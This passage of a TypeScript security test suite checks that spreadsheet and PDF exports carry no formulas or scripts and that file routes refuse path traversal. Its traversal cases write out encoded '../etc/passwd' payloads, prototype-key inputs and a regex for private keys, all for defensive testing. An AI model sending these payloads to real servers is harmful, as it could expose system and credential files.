      const answer = await send('participants', 'GET', `/events/${bad.meeting}/participants.xlsx`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(new Uint8Array(answer.bytes).buffer);
      const cells: ExcelJS.Cell[] = [];
      workbook.getWorksheet('Participants')!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
      // No formula anywhere, so nothing a spreadsheet would run.
      expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula)).toEqual([]);
      // Each formula-like value is kept as it was typed, as text (an apostrophe would show in a
      // typed cell); XML reads a carriage return back as a line feed.
      for (const typed of [...bad.csv, '@x', '-1', '+7 727 000 00 00']) {
        const value = typed.replace(/\r/g, '\n');
        const found = cells.find((cell) => cell.value === value);
        expect({ value, type: found?.type }).toEqual({ value, type: ExcelJS.ValueType.String });
      }
    });
  });

  describe('printed badges', () => {
    it('draw names as text in a PDF that carries no action or script', async () => {
      const answer = await send('participants', 'GET', `/events/${bad.meeting}/badges.pdf`);
      expect(answer.status).toBe(200);
      const pdf = await getDocument({ data: new Uint8Array(answer.bytes) }).promise;
      expect(await pdf.getJSActions()).toBeNull();
      expect(await pdf.getOpenAction()).toBeNull();
      let text = '';
      for (let n = 1; n <= pdf.numPages; n++) {
        const page = await pdf.getPage(n);
        expect(await page.getAnnotations()).toEqual([]);
        text += (await page.getTextContent()).items.map((item) => ('str' in item ? item.str : '')).join('');
      }
      const squeezed = (t: string) => t.replace(/\s+/g, '');
      for (const name of [hostileShort('HeadGiven'), hostileShort('Latin'), hostileShort('KazName')])
        expect({ name, shown: squeezed(text).includes(squeezed(name)) }).toEqual({ name, shown: true });
    });
  });

  describe('path traversal', () => {
    const looksLikeAFile = (body: string) => /root:.*:0:0:|"name":\s*"plenary"|PRIVATE KEY/.test(body);

    it('in routes that end in a file name is refused and never reads a file', async () => {
      const id = plain.report;
      const cases: Array<[AppName, string, string?]> = [
        ['reports', '/reports/..%2F..%2F..%2Fetc%2Fpasswd.pdf'],
        ['reports', '/reports/..%2F..%2F..%2Fetc%2Fpasswd.html'],
        ['reports', '/reports/%2e%2e%2f%2e%2e%2fpackage.json.md'],
        ['reports', '/reports/..%5C..%5Cpackage.json.pdf'],
        ['reports', '/reports/../../../etc/passwd'],
        ['reports', `/reports/${id}/versions/1/preview.%2e%2e%2f%2e%2e%2fpackage.json`, admin],
        ['reports', `/reports/${id}/versions/1/preview.constructor`, admin],
        ['reports', `/reports/${id}/versions/1/preview.__proto__`, admin],
        ['reports', `/reports/${id}/versions/1/preview.toString`, admin],
        ['reports', `/reports/${id}/versions/..%2F..%2F1/preview.html`, admin],
        ['events', '/events/..%2F..%2F..%2Fetc%2Fpasswd.ics', reader],
        ['events', '/events/..%2F..%2Fpackage.json', reader],
        ['participants', '/events/..%2F..%2F..%2Fetc%2Fpasswd/participants.csv', admin],
        ['participants', '/events/../../../etc/passwd/participants.csv', admin],
        ['events', '/docs/..%2F..%2F..%2F..%2Fpackage.json'],
        ['events', '/docs/../../../../package.json'],
        ['events', '/docs/%2e%2e/%2e%2e/%2e%2e/%2e%2e/package.json'],
        ['reports', '/asyncapi/..%2F..%2Fpackage.json'],
      ];
      const answers = await Promise.all(
        cases.map(async ([app, path, token]) => {
          const r = await rawGet(apps[app].url, path, token);
          return { path, status: r.status, file: looksLikeAFile(r.body) };
        }),
      );
      // A bad id is a 400, a path out of a folder a 403, an unknown route or format a 404: never a
      // file, never a server error.
      expect(answers.filter((a) => a.file || ![400, 403, 404].includes(a.status))).toEqual([]);
    });

    it('cannot reach the names of downloaded files: they are made of validated ids only', async () => {
      const pdf = await send('reports', 'GET', `/reports/${bad.report}.pdf`, undefined);
      expect(pdf.headers.get('content-disposition')).toBe(`inline; filename="report-${bad.report}.pdf"`);
      const preview = await send('reports', 'GET', `/reports/${bad.report}/versions/1/preview.pdf`);
      expect(preview.headers.get('content-disposition')).toBe(`inline; filename="report-${bad.report}.pdf"`);
      const csv = await send('participants', 'GET', `/events/${bad.meeting}/participants.csv`);
      expect(csv.headers.get('content-disposition')).toBe('attachment; filename="participants.csv"');
      const xlsx = await send('participants', 'GET', `/events/${bad.meeting}/participants.xlsx`);
      expect(xlsx.headers.get('content-disposition')).toBe(
        `attachment; filename="participants-${bad.meeting}.xlsx"`,
      );
      const badges = await send('participants', 'GET', `/events/${bad.meeting}/badges.pdf`);
      expect(badges.headers.get('content-disposition')).toBe(`inline; filename="badges-${bad.meeting}.pdf"`);
    });
  });
});
